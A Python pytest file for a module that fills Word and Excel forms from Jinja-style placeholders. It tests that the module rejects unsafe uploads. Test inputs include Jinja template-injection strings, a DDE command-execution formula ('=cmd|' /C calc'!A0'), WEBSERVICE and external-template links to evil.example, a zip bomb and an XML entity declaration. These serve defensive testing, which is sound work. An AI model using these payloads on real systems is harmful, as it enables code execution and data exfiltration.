"""A bureau's own forms: filled with plain values, refused when they could do anything else."""

import io
import zipfile

import docx
import openpyxl
import pytest
from docx.oxml.ns import qn
from jinja2 import TemplateError

from pairing.domain.assessment.paper_fields import example_of, placeholders, values_of
from pairing.domain.assessment.word_papers import PAPERS, ActivityLine, ActivityPaper
from pairing.domain.vocabulary.papers import FormSubject
from pairing.files.office import Unreadable
from pairing.word import own_forms
from pairing.word.placeholders import MOST_ROWS, known_of
from pairing.word.sandbox import PlainEnvironment

ACTIVITY = FormSubject.ACTIVITY
ENDINGS = (".docx", ".xlsx")


def _docx(*texts, row=None, foot=()):
    document, out = docx.Document(), io.BytesIO()
    for text in texts:
        document.add_paragraph(text)
    if row:
        table = document.add_table(1, len(row))
        for cell, text in zip(table.rows[0].cells, row, strict=True):
            cell.text = text
    for text in foot:
        document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def _xlsx(cells, merged=()):
    book, out = openpyxl.Workbook(), io.BytesIO()
    for place, value in cells.items():
        book.active[place] = value
    for place in merged:
        book.active.merge_cells(place)
    book.save(out)
    return out.getvalue()


def _with(data, name, body):
    """The package with one part added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, body)
    return out.getvalue()


def _part(data, name):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def _said(name, data, subject=ACTIVITY):
    with pytest.raises(Unreadable) as refused:
        own_forms.check(name, data, subject)
    return str(refused.value)


def _words(data):
    document = docx.Document(io.BytesIO(data))
    return [one.text for one in document.element.body.iter(qn("w:t")) if one.text]


def _paper(**more):
    lines = tuple(ActivityLine(topic=f"第{n}项", hours=str(n)) for n in (1, 2, 3))
    return ActivityPaper(lead="县实验幼儿园", topics="磁铁", activities=lines, **more)


@pytest.mark.parametrize("subject", FormSubject)
@pytest.mark.parametrize("ending", ENDINGS)
def test_every_sample_is_taken_and_filled(subject, ending):
    sample = own_forms.sample(subject, ending)
    own_forms.check(f"样表{ending}", sample, subject)
    filled = own_forms.fill(f"样表{ending}", sample, example_of(PAPERS[subject], 3))
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert not any(b"{{" in archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("subject", FormSubject)
def test_every_placeholder_has_one_name_one_label_and_says_what_it_is(subject):
    told = list(placeholders(PAPERS[subject]))
    for group in [told, *(one.rows for one in told if one.rows)]:
        names = [word for one in group for word in (one.name, one.label)]
        assert len(set(names)) == len(names)
        assert all(word.isidentifier() for word in names)


def test_a_word_form_is_filled_in_both_languages_and_its_row_repeats():
    form = _docx("单位：{{ 帮扶单位 }}／{{ lead }}", row=("{{ 活动.主题 }}", "{{ 活动.课时 }}"))
    own_forms.check("表.docx", form, ACTIVITY)
    words = _words(own_forms.fill("表.docx", form, _paper()))
    assert words == ["单位：县实验幼儿园／县实验幼儿园", "第1项", "1", "第2项", "2", "第3项", "3"]


def test_a_placeholder_that_word_has_split_is_still_one():
    document, out = docx.Document(), io.BytesIO()
    paragraph = document.add_paragraph()
    for piece in ("{", "{ to", "pics }", "}"):
        paragraph.add_run(piece)
    document.save(out)
    own_forms.check("表.docx", out.getvalue(), ACTIVITY)
    assert "磁铁" in "".join(_words(own_forms.fill("表.docx", out.getvalue(), _paper())))


def test_values_are_text_whatever_they_look_like():
    form = _docx("{{ process }}")
    nasty = "<w:p/>&amp; {{ lead }} {% for a in b %} ]]>"
    assert nasty in "".join(_words(own_forms.fill("表.docx", form, _paper(process=nasty))))


def test_a_row_in_excel_repeats_and_what_stands_below_moves_along():
    cells = {
        "A1": "{{ 帮扶单位 }}",
        "A3": "{{ activities.topic }}",
        "B3": "{{ activities.hours }}",
        "B4": "=SUM(B3:B3)",
        "A5": "制表：{{ 记录人 }}",
    }
    form = _xlsx(cells, merged=("A5:B5", "C3:D3"))
    own_forms.check("表.xlsx", form, ACTIVITY)
    filled = own_forms.fill("表.xlsx", form, _paper(recorder="何永康"))
    page = openpyxl.load_workbook(io.BytesIO(filled)).active
    assert [page[f"A{n}"].value for n in (1, 3, 4, 5)] == [
        "县实验幼儿园",
        "第1项",
        "第2项",
        "第3项",
    ]
    assert [page[f"B{n}"].value for n in (3, 4, 5)] == [1, 2, 3]
    assert page["B6"].value == "=SUM(B3:B5)"
    assert page["A7"].value == "制表：何永康"
    assert {str(one) for one in page.merged_cells.ranges} == {"A7:B7", "C3:D3", "C4:D4", "C5:D5"}


def test_a_list_without_rows_leaves_its_line_blank():
    form = _xlsx({"A1": "{{ 活动.主题 }}", "A2": "完"})
    filled = own_forms.fill("表.xlsx", form, ActivityPaper())
    page = openpyxl.load_workbook(io.BytesIO(filled)).active
    assert (page["A1"].value or "", page["A2"].value) == ("", "完")


@pytest.mark.parametrize("text", ["=1+1", "+8613", "-1+1", "@sum", "＝1", " =cmd|' /C calc'!A0"])
def test_a_formula_from_the_data_stays_text(text):
    form = _xlsx({"A1": "{{ topics }}", "A2": "主题：{{ topics }}"})
    paper = ActivityPaper(topics=text)
    page = openpyxl.load_workbook(io.BytesIO(own_forms.fill("表.xlsx", form, paper))).active
    assert page["A1"].data_type == "s"
    assert page["A1"].value == text
    assert page["A1"].quotePrefix


def test_only_so_many_rows_go_in():
    lines = tuple(ActivityLine(topic=f"第{n}项") for n in range(MOST_ROWS + 50))
    form = _xlsx({"A1": "{{ 活动.主题 }}"})
    filled = own_forms.fill("表.xlsx", form, ActivityPaper(activities=lines))
    assert openpyxl.load_workbook(io.BytesIO(filled)).active.max_row == MOST_ROWS


def test_a_wrong_placeholder_is_named_with_the_right_one():
    for name, form in (
        ("表.docx", _docx("{{ topicz }}")),
        ("表.xlsx", _xlsx({"A1": "{{topicz}}"})),
    ):
        told = _said(name, form)
        assert "“{{ topicz }}”" in told
        assert "topics" in told
    assert "不认识“{{ 活动.天气 }}”" in _said("表.docx", _docx(row=("{{ 活动.天气 }}",)))
    assert "大括号没有成对" in _said("表.docx", _docx("{{ lead }", "{{ lead }}"))
    assert "还没有填空记号" in _said("表.docx", _docx("空表"))
    assert "好几行" in _said("表.docx", _docx("{{ 活动 }}"))
    assert "表格的一行里" in _said("表.docx", _docx("{{ 活动.主题 }}"))
    mixed = ("{{ 活动.主题 }}", "{{ 决定.内容 }}")
    assert "一个列表" in _said("表.docx", _docx(row=mixed))
    assert "一个列表" in _said("表.xlsx", _xlsx({"A1": mixed[0], "B1": mixed[1]}))


@pytest.mark.parametrize(
    "text",
    [
        "{{ lead.__class__ }}",
        "{{ lead.__class__.__mro__ }}",
        "{{ ''.join(lead) }}",
        "{{ lead|upper }}",
        "{{ 9**9 }}",
        "{{ lead[0] }}",
        "{{ self }}",
        "{{ cycler }}",
        "{% for a in 活动 %}{{ lead }}{% endfor %}",
        "{%p if lead %}{{ lead }}",
        "{# x #}{{ lead }}",
        "{{r lead }}",
    ],
)
@pytest.mark.parametrize("ending", ENDINGS)
def test_nothing_but_names_is_taken(text, ending):
    form = _docx(text) if ending == ".docx" else _xlsx({"A1": text})
    assert _said(f"表{ending}", form)


@pytest.mark.parametrize(
    "source",
    [
        "{{ lead.__class__ }}",
        "{{ lead|upper }}",
        "{{ lead() }}",
        "{{ 'a' * 9 }}",
        "{% for a in 活动 %}{% for a in 活动 %}{% endfor %}{% endfor %}",
        "{% set a = 1 %}",
        "{% include 'x' %}",
    ],
)
def test_the_sandbox_itself_knows_nothing_else(source):
    values = values_of(_paper())
    with pytest.raises((Unreadable, TemplateError)):
        PlainEnvironment(MOST_ROWS).from_string(source).render(values)


def test_a_row_that_would_swell_is_refused():
    with pytest.raises(Unreadable, match="太多"):
        row = "x" * 200_000
        PlainEnvironment(MOST_ROWS).from_string(f"{{% for a in 活动 %}}{row}{{% endfor %}}")


def test_macros_and_other_formats_are_refused():
    good = _docx("{{ lead }}")
    for name in ("表.docm", "表.xlsm", "表.doc", "表.exe", "表"):
        assert "docx" in _said(name, good)
    assert "宏" in _said("表.docm", good)
    assert "宏" in _said("表.docx", _with(good, "word/vbaProject.bin.xml", b"<x/>"))
    assert "宏" in _said("表.docx", _with(good, "word/embeddings/a.xml", b"<x/>"))
    types = _part(good, "[Content_Types].xml").replace(b"document.main", b"macroEnabled.main")
    assert "宏" in _said("表.docx", _with(good, "[Content_Types].xml", types))
    assert "这不是 .xlsx" in _said("表.xlsx", good)


def test_a_macro_without_an_xml_name_is_refused():
    assert "宏" in _said("表.docx", _with(_docx("{{ lead }}"), "word/vbaProject.bin", b"\xd0\xcf"))


def test_links_and_fields_that_reach_out_are_refused():
    good = _docx("{{ lead }}")
    rels = "word/_rels/document.xml.rels"
    link = (
        b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/a.png" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    )
    changed = _part(good, rels).replace(b"</Relationships>", link + b"</Relationships>")
    assert "外部" in _said("表.docx", _with(good, rels, changed))
    field = b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c</w:instrText></w:r>"
    body = _part(good, "word/document.xml").replace(b"</w:p>", field + b"</w:p>", 1)
    assert "域" in _said("表.docx", _with(good, "word/document.xml", body))
    for formula in ("=cmd|' /C calc'!A0", "=[1]表!A1", '=WEBSERVICE("http://evil.example")'):
        assert "公式" in _said("表.xlsx", _xlsx({"A1": formula, "A2": "{{ lead }}"}))
    assert "公式" in _said("表.xlsx", _xlsx({"A1": '="{{ lead }}"'}))


def test_bombs_passwords_entities_and_damage_are_refused():
    good = _docx("{{ lead }}")
    assert "密码" in _said("表.docx", b"\xd0\xcf\x11\xe0" + bytes(4096))
    assert "不是 .docx" in _said("表.docx", b"hello")
    assert "MB" in _said("表.docx", bytes(6 * 2**20))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<x/>")
        archive.writestr("word/document.xml", bytes(60_000_000))
    assert "大得不正常" in _said("表.docx", bomb.getvalue())
    body = _part(good, "word/document.xml")
    entity = body.replace(b"<w:document", b'<!DOCTYPE a [<!ENTITY b "c">]><w:document', 1)
    assert "实体" in _said("表.docx", _with(good, "word/document.xml", entity))
    assert "损坏" in _said("表.docx", _with(good, "word/document.xml", body[:200]))


def test_the_name_of_a_template_on_a_disk_is_let_go():
    good = _docx("{{ lead }}")
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns='
        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    settings = _part(good, "word/settings.xml").replace(
        b"</w:settings>",
        b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships" r:id="rId1"/></w:settings>',
    )
    linked = _with(_with(good, "word/_rels/settings.xml.rels", rels), "word/settings.xml", settings)
    filled = own_forms.fill("表.docx", linked, _paper())
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert not any(b"evil.example" in archive.read(name) for name in archive.namelist())


def test_every_list_knows_its_rows():
    assert "主题" in known_of(ActivityPaper).lists["活动"]
